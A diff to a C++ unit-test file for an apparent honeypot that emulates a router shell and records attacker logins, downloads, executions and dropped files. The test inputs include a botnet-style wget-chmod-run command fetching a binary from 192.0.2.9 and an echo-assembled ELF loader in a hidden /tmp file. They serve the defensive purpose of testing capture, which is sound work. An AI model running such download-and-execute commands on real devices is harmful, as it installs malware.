@@ -29,14 +29,14 @@ TEST(ShellSession, LoginAttemptsAreNumberedEvents) {
     ASSERT_EQ(collector.ofType("honeypot.connect").size(), 1u);
     const auto logins = collector.ofType("honeypot.login");
     ASSERT_EQ(logins.size(), 2u);
-    EXPECT_EQ(logins[0]->fields["password"], "admin");
-    EXPECT_EQ(logins[0]->fields["success"], false);
-    EXPECT_EQ(logins[0]->fields["attempt"], 1);
-    EXPECT_EQ(logins[1]->fields["success"], true);
-    EXPECT_EQ(logins[1]->fields["attempt"], 2);
-    EXPECT_EQ(logins[1]->fields["session"], "00000000000000a1");
-    EXPECT_EQ(logins[1]->fields["src"], "198.51.100.7");
-    EXPECT_FALSE(logins[1]->fields.contains("method"));
+    EXPECT_EQ(logins[0].fields["password"], "admin");
+    EXPECT_EQ(logins[0].fields["success"], false);
+    EXPECT_EQ(logins[0].fields["attempt"], 1);
+    EXPECT_EQ(logins[1].fields["success"], true);
+    EXPECT_EQ(logins[1].fields["attempt"], 2);
+    EXPECT_EQ(logins[1].fields["session"], "00000000000000a1");
+    EXPECT_EQ(logins[1].fields["src"], "198.51.100.7");
+    EXPECT_FALSE(logins[1].fields.contains("method"));
 }
 
 TEST(ShellSession, WelcomeIsTheAshBannerAndPrompt) {
@@ -55,19 +55,19 @@ TEST(ShellSession, CommandsBecomeEventsAndDownloadsGoToTheCollector) {
     auto result = session.runLine("cd /tmp; wget http://192.0.2.9/bins/x.arm7 -O x; chmod 777 x; ./x telnet.arm");
     EXPECT_FALSE(result.close);
     EXPECT_TRUE(result.output.ends_with(session.shell().prompt()));
-    ASSERT_EQ(collector.downloads.size(), 1u);
-    EXPECT_EQ(collector.downloads[0].url, "http://192.0.2.9/bins/x.arm7");
-    EXPECT_EQ(collector.downloads[0].tool, "wget");
-    EXPECT_EQ(collector.downloads[0].output_path, "/tmp/x");
-    ASSERT_EQ(collector.executions.size(), 1u);
-    EXPECT_EQ(collector.executions[0].path, "/tmp/x");
-    EXPECT_EQ(collector.executions[0].argv, (std::vector<std::string>{"./x", "telnet.arm"}));
-    EXPECT_EQ(collector.downloads[0].session, "00000000000000a1");
+    ASSERT_EQ(collector.downloads().size(), 1u);
+    EXPECT_EQ(collector.downloads()[0].url, "http://192.0.2.9/bins/x.arm7");
+    EXPECT_EQ(collector.downloads()[0].tool, "wget");
+    EXPECT_EQ(collector.downloads()[0].output_path, "/tmp/x");
+    ASSERT_EQ(collector.executions().size(), 1u);
+    EXPECT_EQ(collector.executions()[0].path, "/tmp/x");
+    EXPECT_EQ(collector.executions()[0].argv, (std::vector<std::string>{"./x", "telnet.arm"}));
+    EXPECT_EQ(collector.downloads()[0].session, "00000000000000a1");
     const auto commands = collector.ofType("honeypot.command");
     ASSERT_EQ(commands.size(), 1u);
-    EXPECT_EQ(commands[0]->fields["interactive"], true);
-    EXPECT_EQ(commands[0]->fields["executed"].size(), 1u);
-    EXPECT_EQ(commands[0]->fields["commands"][1], "wget");
+    EXPECT_EQ(commands[0].fields["interactive"], true);
+    EXPECT_EQ(commands[0].fields["executed"].size(), 1u);
+    EXPECT_EQ(commands[0].fields["commands"][1], "wget");
 }
 
 TEST(ShellSession, ExecRequestsGetNoPrompt) {
@@ -75,7 +75,7 @@ TEST(ShellSession, ExecRequestsGetNoPrompt) {
     ShellSession session(collector, context(), routerPersona());
     auto result = session.runLine("echo hi", false, false);
     EXPECT_EQ(result.output, "hi\n");
-    EXPECT_EQ(collector.ofType("honeypot.command")[0]->fields["interactive"], false);
+    EXPECT_EQ(collector.ofType("honeypot.command")[0].fields["interactive"], false);
 }
 
 TEST(ShellSession, AFileBuiltInChunksIsReportedOnceWholeWhenRun) {
@@ -83,30 +83,30 @@ TEST(ShellSession, AFileBuiltInChunksIsReportedOnceWholeWhenRun) {
     ShellSession session(collector, context(), routerPersona());
     session.runLine("cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .d");
     session.runLine("echo -ne '\\x01\\x02' >> .d");
-    EXPECT_TRUE(collector.files.empty()) << "reported before the loader finished";
+    EXPECT_TRUE(collector.files().empty()) << "reported before the loader finished";
     session.runLine("chmod 777 .d; ./.d");
-    ASSERT_EQ(collector.files.size(), 1u);
-    EXPECT_EQ(collector.files[0].path, "/tmp/.d");
-    EXPECT_EQ(collector.files[0].content, std::string("\x7f"
-                                                      "ELF\x01\x02",
-                                                      6));
+    ASSERT_EQ(collector.files().size(), 1u);
+    EXPECT_EQ(collector.files()[0].path, "/tmp/.d");
+    EXPECT_EQ(collector.files()[0].content, std::string("\x7f"
+                                                        "ELF\x01\x02",
+                                                        6));
     session.close();
-    EXPECT_EQ(collector.files.size(), 1u) << "reported twice";
+    EXPECT_EQ(collector.files().size(), 1u) << "reported twice";
 }
 
 TEST(ShellSession, FilesNeverRunAreReportedAtCloseEvenWhenDeleted) {
     testing::RecordingCollector collector;
     ShellSession session(collector, context(), routerPersona());
     session.runLine("echo -ne 'payload-one' > /tmp/a; echo two > /tmp/b; rm /tmp/b");
-    EXPECT_TRUE(collector.files.empty());
+    EXPECT_TRUE(collector.files().empty());
     session.close();
-    ASSERT_EQ(collector.files.size(), 2u);
-    EXPECT_EQ(collector.files[0].path, "/tmp/a");
-    EXPECT_EQ(collector.files[0].content, "payload-one");
-    EXPECT_EQ(collector.files[1].path, "/tmp/b");
-    EXPECT_EQ(collector.files[1].content, "two\n");
+    ASSERT_EQ(collector.files().size(), 2u);
+    EXPECT_EQ(collector.files()[0].path, "/tmp/a");
+    EXPECT_EQ(collector.files()[0].content, "payload-one");
+    EXPECT_EQ(collector.files()[1].path, "/tmp/b");
+    EXPECT_EQ(collector.files()[1].content, "two\n");
     session.close();
-    EXPECT_EQ(collector.files.size(), 2u);
+    EXPECT_EQ(collector.files().size(), 2u);
 }
 
 TEST(ShellSession, PendingFilesAreBoundedByTheShellFilesystemBudget) {
@@ -121,9 +121,9 @@ TEST(ShellSession, PendingFilesAreBoundedByTheShellFilesystemBudget) {
         session.runLine("echo -n 0123456789012345678901234567890 > /tmp/f" + std::to_string(i) + "; rm /tmp/f" +
                         std::to_string(i));
     }
-    EXPECT_GE(collector.files.size(), 8u);
+    EXPECT_GE(collector.files().size(), 8u);
     session.close();
-    EXPECT_EQ(collector.files.size(), 10u);
+    EXPECT_EQ(collector.files().size(), 10u);
 }
 
 TEST(ShellSession, ExitClosesWithoutAPrompt) {
